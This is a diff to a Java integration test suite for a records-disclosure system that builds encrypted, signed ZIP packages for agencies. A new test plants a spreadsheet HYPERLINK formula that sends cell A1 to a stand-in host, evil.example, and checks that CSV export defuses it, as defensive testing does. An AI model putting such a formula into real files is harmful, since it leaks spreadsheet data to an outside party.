@@ -1,6 +1,7 @@
 package org.custodian.disclosure;
 
 import java.io.ByteArrayOutputStream;
+import java.io.File;
 import java.io.InputStream;
 import java.io.PrintStream;
 import java.nio.charset.StandardCharsets;
@@ -26,6 +27,7 @@ import org.custodian.support.IntegrationTest;
 import org.custodian.support.World;
 import org.custodian.support.World.Agency;
 import org.custodian.support.World.Person;
+import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import tools.jackson.databind.JsonNode;
@@ -42,6 +44,8 @@ import static org.awaitility.Awaitility.await;
  * passphrase → verify-package; the production pause; the emergency callback; purge.
  */
 class DisclosureIntegrationTests extends IntegrationTest {
+
+	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
 
 	@Autowired
 	VerifyPackageCommand verifyPackage;
@@ -85,21 +89,21 @@ class DisclosureIntegrationTests extends IntegrationTest {
 		Files.write(zip, download.bytes());
 
 		List<String> names = new ArrayList<>();
-		List<JsonNode> nonContent = new ArrayList<>();
 		try (ZipFile file = new ZipFile(zip.toFile(), secret.toCharArray())) {
 			for (FileHeader header : file.getFileHeaders()) {
 				assertThat(header.isEncrypted()).as(header.getFileName()).isTrue();
 				names.add(header.getFileName());
-				if (header.getFileName().endsWith("NON_CONTENT.json")) {
-					try (InputStream in = file.getInputStream(header)) {
-						Api.JSON.readTree(in.readAllBytes()).path("records").forEach(nonContent::add);
-					}
-				}
 			}
 		}
-		assertThat(names).containsExactlyInAnyOrder("targets/01-sample-us-001/BASIC_SUBSCRIBER.json",
-				"targets/01-sample-us-001/BASIC_SUBSCRIBER.csv", "targets/01-sample-us-001/NON_CONTENT.json",
-				"targets/01-sample-us-001/NON_CONTENT.csv", "manifest.json", "manifest.sig", "records-certificate.pdf");
+		assertThat(names).containsExactly("targets/01/part-01.json", "targets/01/part-01.csv",
+				"targets/01/part-02.json", "targets/01/part-02.csv", "README.txt", "manifest.json", "manifest.sig",
+				"records-certificate.pdf");
+		assertThat(new String(Files.readAllBytes(zip), StandardCharsets.ISO_8859_1)).as("names reveal no account")
+			.doesNotContain("sample-us-001", "NON_CONTENT", "BASIC_SUBSCRIBER");
+		List<JsonNode> nonContent = new ArrayList<>();
+		Api.JSON.readTree(entry(zip, secret, fileOf(zip, secret, "NON_CONTENT", ".json")))
+			.path("records")
+			.forEach(nonContent::add);
 		assertThat(nonContent).isNotEmpty();
 		assertThat(nonContent).allSatisfy((record) -> {
 			Instant at = Instant.parse(record.path("at").asString());
@@ -112,10 +116,7 @@ class DisclosureIntegrationTests extends IntegrationTest {
 		Files.writeString(passphraseFile, secret);
 		assertThat(verify(zip, passphraseFile)).startsWith("0 Package VALID");
 
-		JsonNode key = this.api.anonymous().get("/.well-known/custodian/production-signing-key").json();
-		assertThat(key.path("algorithm").asString()).isEqualTo("Ed25519");
-		assertThat(verify(zip, passphraseFile, "--public-key", key.path("publicKey").asString()))
-			.startsWith("0 Package VALID");
+		verifiesOfflineWithThePublishedKeys(zip, passphraseFile);
 
 		byte[] bytes = Files.readAllBytes(zip);
 		bytes[bytes.length / 3] ^= 0x01;
@@ -133,6 +134,47 @@ class DisclosureIntegrationTests extends IntegrationTest {
 		JsonNode production = this.api.as(auditor.token()).get("/api/v1/cases/" + id + "/production").json();
 		assertThat(production.path("status").asString()).isEqualTo("PRODUCED");
 		assertThat(production.path("downloads").asInt()).isEqualTo(1);
+	}
+
+	@Test
+	void aFormulaInAUsersRecordsReachesTheAgencysSpreadsheetAsText() throws Exception {
+		String account = anAccountWithAFormula();
+		Package produced = produce(account);
+		String csv = new String(entry(produced.zip(), produced.passphrase(),
+				fileOf(produced.zip(), produced.passphrase(), "NON_CONTENT", ".csv")), StandardCharsets.UTF_8);
+		assertThat(csv).contains(",\"'" + FORMULA.replace("\"", "\"\"") + "\",");
+		assertThat(csv.lines()).noneMatch((line) -> line.contains(",=") || line.startsWith("="));
+		String json = new String(entry(produced.zip(), produced.passphrase(),
+				fileOf(produced.zip(), produced.passphrase(), "NON_CONTENT", ".json")), StandardCharsets.UTF_8);
+		assertThat(Api.JSON.readTree(json).path("records").findValuesAsString("userAgent")).as("JSON keeps it exact")
+			.contains(FORMULA);
+		String readme = new String(entry(produced.zip(), produced.passphrase(), "README.txt"), StandardCharsets.UTF_8);
+		assertThat(readme).contains("prefixed with a single quote");
+	}
+
+	@Test
+	void sevenZipOpensAProductionAndFindsTheFilesOfTheSignedManifest() throws Exception {
+		boolean available = new File("/usr/bin/7z").canExecute();
+		if (!"true".equals(System.getenv("CI"))) {
+			Assumptions.assumeTrue(available, "7z is not installed (apt-get install p7zip-full): skipped");
+		}
+		Package produced = produce(anAccountWithAFormula());
+		Path out = Files.createDirectory(this.temp.resolve("7z"));
+		Process sevenZip = new ProcessBuilder("7z", "x", "-p" + produced.passphrase(), "-o" + out,
+				produced.zip().toString())
+			.redirectErrorStream(true)
+			.start();
+		String log = new String(sevenZip.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+		assertThat(sevenZip.waitFor()).as(log).isZero();
+		JsonNode manifest = Api.JSON.readTree(Files.readAllBytes(out.resolve("manifest.json")));
+		assertThat(manifest.path("files")).hasSize(4);
+		for (JsonNode file : manifest.path("files")) {
+			byte[] extracted = Files.readAllBytes(out.resolve(file.path("path").asString()));
+			assertThat(PackageBuilder.sha256(extracted)).as(file.path("path").asString())
+				.isEqualTo(file.path("sha256").asString());
+			assertThat(extracted).isEqualTo(entry(produced.zip(), produced.passphrase(), file.path("path").asString()));
+		}
+		assertThat(out.resolve("records-certificate.pdf")).isNotEmptyFile();
 	}
 
 	@Test
@@ -324,6 +366,20 @@ class DisclosureIntegrationTests extends IntegrationTest {
 					() -> assertThat(this.world.officerView(officer, id).path("status").asString()).isEqualTo(status));
 	}
 
+	/** As an agency would: with the base64 key, and with the JWK Set saved to a file. */
+	private void verifiesOfflineWithThePublishedKeys(Path zip, Path passphraseFile) throws Exception {
+		JsonNode key = this.api.anonymous().get("/.well-known/custodian/production-signing-key").json();
+		assertThat(key.path("algorithm").asString()).isEqualTo("Ed25519");
+		assertThat(verify(zip, passphraseFile, "--public-key", key.path("publicKey").asString()))
+			.startsWith("0 Package VALID");
+		Api.Response jwks = this.api.anonymous().get("/.well-known/custodian/jwks.json");
+		assertThat(jwks.json().path("keys").get(0).path("kty").asString()).isEqualTo("OKP");
+		assertThat(jwks.json().path("keys").findValuesAsString("kid")).contains(key.path("keyId").asString());
+		Path jwksFile = this.temp.resolve("jwks.json");
+		Files.write(jwksFile, jwks.bytes());
+		assertThat(verify(zip, passphraseFile, "--public-key", jwksFile.toString())).startsWith("0 Package VALID");
+	}
+
 	private String verify(Path zip, Path passphraseFile, String... more) {
 		List<String> arguments = new ArrayList<>(
 				List.of(zip.toString(), "--passphrase-file", passphraseFile.toString()));
@@ -331,6 +387,60 @@ class DisclosureIntegrationTests extends IntegrationTest {
 		ByteArrayOutputStream out = new ByteArrayOutputStream();
 		int code = this.verifyPackage.run(arguments, new PrintStream(out, true, StandardCharsets.UTF_8));
 		return code + " " + out.toString(StandardCharsets.UTF_8);
+	}
+
+	/** A user of the sample platform whose user agent is a spreadsheet formula. */
+	private String anAccountWithAFormula() {
+		String account = "csv-" + UUID.randomUUID().toString().substring(0, 8);
+		this.jdbc.sql("INSERT INTO platform_account (id, username, home_jurisdiction) VALUES (?, ?, 'US')")
+			.params(account, account)
+			.update();
+		this.jdbc.sql("""
+				INSERT INTO sample_record (account_id, category, kind, occurred_at, fields) VALUES
+				  (:a, 'BASIC_SUBSCRIBER', 'profile', '2018-01-01Z', '{"username": "x", "phone": "+15550100"}'),
+				  (:a, 'NON_CONTENT', 'login', '2020-02-01Z', jsonb_build_object('ip', '192.0.2.1', 'userAgent', :f))
+				""").param("a", account).param("f", FORMULA).update();
+		return account;
+	}
+
+	/**
+	 * An approved and produced request for the account, downloaded with its passphrase.
+	 */
+	private Package produce(String account) throws Exception {
+		Agency agency = this.world.agency("US");
+		Person officer = this.world.officer(agency);
+		String id = this.world.submit(officer, courtOrder(account));
+		decide(id, "DISCLOSE", List.of("BASIC_SUBSCRIBER", "NON_CONTENT"));
+		awaitStatus(officer, id, "PRODUCED");
+		String secret = this.api.as(officer.token())
+			.post("/api/v1/requests/" + id + "/production/passphrase", Map.of())
+			.json()
+			.path("passphrase")
+			.asString();
+		Path zip = this.temp.resolve(id + ".zip");
+		Files.write(zip, this.api.as(officer.token()).get("/api/v1/requests/" + id + "/production").bytes());
+		return new Package(zip, secret);
+	}
+
+	private record Package(Path zip, String passphrase) {
+	}
+
+	/** The path of the file holding a category, as the manifest maps it. */
+	private static String fileOf(Path zip, String passphrase, String category, String extension) throws Exception {
+		JsonNode manifest = Api.JSON.readTree(entry(zip, passphrase, "manifest.json"));
+		for (JsonNode file : manifest.path("files")) {
+			if (category.equals(file.path("category").asString()) && file.path("path").asString().endsWith(extension)) {
+				return file.path("path").asString();
+			}
+		}
+		throw new AssertionError("No " + category + extension + " in " + manifest);
+	}
+
+	private static byte[] entry(Path zip, String passphrase, String name) throws Exception {
+		try (ZipFile file = new ZipFile(zip.toFile(), passphrase.toCharArray());
+				InputStream in = file.getInputStream(file.getFileHeader(name))) {
+			return in.readAllBytes();
+		}
 	}
 
 	private boolean unverified(String requestId) {
